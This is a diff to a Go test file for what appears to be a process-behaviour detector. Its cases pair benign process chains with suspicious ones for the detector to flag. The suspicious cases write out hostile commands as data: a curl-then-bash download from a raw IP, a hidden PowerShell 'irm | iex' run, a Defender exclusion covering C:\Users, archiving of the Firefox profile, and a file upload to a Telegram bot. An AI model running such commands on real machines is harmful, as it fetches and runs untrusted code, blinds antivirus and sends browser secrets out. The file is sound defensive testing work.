@@ -23,7 +23,7 @@ func TestWhoElseWouldFire(t *testing.T) {
 			`|/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor|
 			>|/usr/bin/curl|-s -o /Users/ana/Documents/rates.csv https://rates.kursblatt.invalid/today`,
 			`|/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor|
-			>|/usr/bin/curl|-s -o /tmp/rates.csv https://rates.kursblatt.invalid/today`, "MG-PROC-SCRIPT-EDITOR"},
+			>|/usr/bin/curl|-s -o /tmp/rates.scpt https://rates.kursblatt.invalid/today`, "MG-PROC-SCRIPT-EDITOR"},
 		{"Java of a setup", "linux",
 			`|/bin/sh|/home/ana/Downloads/setup.bin
 			>|/usr/bin/tar|xzf /home/ana/Downloads/p.tgz -C /tmp/inst.1
@@ -71,6 +71,39 @@ func TestWhoElseWouldFire(t *testing.T) {
 			>|/bin/cp|/var/db/a.plist /Users/ana/Library/LaunchAgents/me.ana.sync.plist`,
 			`|/bin/bash|/var/db/setup.sh
 			>|/bin/cp|/var/db/a.plist /Users/ana/Library/LaunchAgents/com.zoom.plist`, "MG-PROC-TEMP-AGENT"},
+		{"an address of an overlay network", "linux",
+			`|/bin/bash|-c "curl -fsSL http://100.64.0.5:8080/up.sh -o /tmp/up.sh"
+			>|/bin/bash|/tmp/up.sh`,
+			`|/usr/bin/curl|-fsSL http://203.0.113.5:8080/up.sh -o /tmp/up.sh
+			|/bin/bash|/tmp/up.sh`, "MG-PROC-FETCH-ADDRESS"},
+		{"a service that a maker of browsers has built", "darwin",
+			`|/Users/ana/Library/Caches/ms-playwright/webkit-1/W.framework/Versions/A/XPCServices/com.apple.WebKit.GPU.xpc/Contents/MacOS/com.apple.WebKit.GPU|`,
+			`|/Users/ana/Library/Caches/ms-playwright/com.apple.WebKit.GPU|`, "MG-PROC-SYSTEM-NAME"},
+		{"what a compiler has made", "windows",
+			`|C:\Program Files\Go\bin\go.exe|run ./cmd/explorer
+			>|` + home + `\AppData\Local\Temp\go-build1\b001\exe\explorer.exe|`,
+			`|C:\Windows\System32\cmd.exe|
+			>|` + home + `\AppData\Local\Temp\go-build1\b001\exe\explorer.exe|`, "MG-PROC-SYSTEM-NAME"},
+		{"a setup that spares its own folder", "windows",
+			`|` + home + `\Downloads\PraxisSetup.exe|
+			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-Command Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis'`,
+			`|` + home + `\Downloads\PraxisSetup.exe|
+			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-Command Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis','C:\Users'`, "MG-PROC-BLIND"},
+		{"what a backup leaves out", "linux",
+			`|/bin/bash|/home/ana/bin/save.sh
+			>|/usr/bin/tar|--exclude=.mozilla/firefox --exclude .config/google-chrome -czf /tmp/h.tgz /home/ana/Documents`,
+			`|/bin/bash|/home/ana/bin/save.sh
+			>|/usr/bin/tar|--exclude=.cache -czf /tmp/h.tgz /home/ana/.mozilla/firefox`, "MG-PROC-SECRET"},
+		{"a bot that its owner has compiled", "linux",
+			`|/home/ana/go/bin/birdcam|
+			>|/usr/bin/curl|-F photo=@/tmp/b.jpg https://api.telegram.org/bot1:A/sendPhoto`,
+			`|/home/ana/.cache/x/birdcam|
+			>|/usr/bin/curl|-F document=@/tmp/b.zip https://api.telegram.org/bot1:A/sendDocument`, "MG-PROC-REPORTED"},
+		{"a firm", "windows",
+			`|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-WindowStyle Hidden -File "D:\Law firm backup.ps1"`,
+			`|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe|-WindowStyle Hidden -Command "irm https://rates.kursblatt.invalid | iex"`, "MG-PROC-RUN-BOX"},
 	} {
 		if got := play(t, tc.system, tc.honest); got != "" {
 			t.Errorf("%s: fired %s", tc.name, got)
